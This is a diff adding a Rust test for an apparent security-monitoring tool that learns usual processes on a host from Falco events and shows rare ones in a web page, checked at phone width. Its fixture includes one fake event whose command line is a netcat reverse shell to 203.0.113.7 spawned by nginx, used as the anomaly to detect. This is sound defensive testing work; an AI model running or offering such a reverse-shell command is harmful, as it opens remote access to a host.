@@ -29,7 +29,28 @@ async fn fill(server: &Running) {
         { "id": "quiet", "query": { "stream": "nothing", "measure": "count" }, "window": "1h", "absolute": { "max": 5 } },
     ] });
     server.fine("POST", "/api/v1/apply", rules).await;
+    behave(server).await;
     pay(server, "hsbc").await;
+}
+
+/// Programs on a host: cron's for a day, a new version of its image, and one that nobody knows.
+async fn behave(server: &Running) {
+    let profile = json!({ "fields": ["proc.exepath", "proc.pname"], "where": "evt.type in (execve)", "learn": "1h", "memory": 1 });
+    let processor = json!({ "id": "usual", "stream": "falco", "profile": profile });
+    server.fine("POST", "/api/v1/apply", json!({ "processors": [processor] })).await;
+    let now = server.fine("GET", "/api/v1/status", Value::Null).await["now"].as_str().unwrap().to_owned();
+    let now_ms = lanner_core::time::parse_time_ms(&now).unwrap();
+    let event = |minutes: i64, parents: &[&str], line: &str| {
+        let fields = json!({
+            "evt.type": "execve", "proc.name": line.split(' ').next(), "proc.exepath": format!("/usr/bin/{}", line.split(' ').next().unwrap()),
+            "proc.cmdline": line, "proc.pname": parents[0], "proc.aname": parents,
+        });
+        json!({ "time": now_ms - minutes * 60_000, "hostname": "web-7", "rule": "started", "output_fields": fields }).to_string()
+    };
+    let mut events: Vec<String> =
+        (0..120).rev().map(|at| event(10 + at * 10, &["cron", "systemd"], "backup --run")).collect();
+    events.push(event(3, &["nginx", "systemd"], "nc -e <sh> 203.0.113.7 4444"));
+    server.text("/api/v1/events/falco", events.join("\n")).await;
 }
 
 /// Has alerts fire: payments that are counted in the next window.
@@ -90,6 +111,9 @@ async fn addresses(server: &Running) -> Vec<String> {
         "/explore?target=nothing.at.all",
         "/edit",
         "/edit?rule=too-many",
+        "/profiles",
+        "/profiles/usual",
+        "/profiles/usual?span=1h",
         "/more",
     ];
     fixed.map(str::to_owned).into_iter().chain([format!("/alerts/{fingerprint}")]).collect()
@@ -132,6 +156,48 @@ async fn each_page_fits_and_can_be_read_at_every_width_in_light_and_dark() {
             note(browser.complaints());
         }
         assert_eq!(problems, Vec::<String>::new());
+    })
+    .await;
+    server.server.stop().await;
+}
+
+/// What is unusual on a host, why, and who started it, on a telephone and by what is on the page alone.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_finds_what_is_unusual_on_a_host_and_why() {
+    let server = open().await;
+    browse(&server, |browser, url| {
+        browser.resize(390, 844);
+        browser.go(url);
+        browser.follow("header a[href='/profiles']");
+        assert!(browser.text("main tbody tr").contains("active"), "{}", browser.text("main"));
+        browser.follow("main a[href='/profiles/usual']");
+        let rare = browser.text("#rare + .scroll tbody");
+        assert!(
+            rare.contains("nc -e <sh> 203.0.113.7 4444")
+                && rare.contains("never seen: proc.exepath, proc.pname"),
+            "{rare}"
+        );
+        assert!(!rare.contains("nginx ← systemd"), "{rare}");
+        browser.click("#rare + .scroll summary");
+        browser.wait_for(
+            "document.querySelector('#rare + .scroll tbody').innerText.includes('nginx ← systemd')",
+        );
+        let why = browser.text("#rare + .scroll details dl");
+        assert!(why.contains("/usr/bin/nc new") && why.contains("never"), "{why}");
+        // The way to it is open in the tree, and what is usual is closed.
+        let tree = browser.text(".tree");
+        assert!(
+            tree.contains("nginx") && tree.contains("nc 1 event 1 rare") && !tree.contains("backup"),
+            "{tree}"
+        );
+        browser.click(".tree details:not([open]) > summary");
+        browser.wait_for("document.querySelector('.tree').innerText.includes('backup 120 events')");
+        assert!(browser.text("#common + .scroll").contains("/usr/bin/backup | cron"));
+        assert!(browser.text("main").contains("No host tells what it saw"));
+        browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
+        browser.follow(".spans a[href='/profiles/usual?span=1h']");
+        assert!(browser.text(".spans [aria-current]").contains("1h"));
+        assert_eq!(browser.complaints(), Vec::<String>::new());
     })
     .await;
     server.server.stop().await;
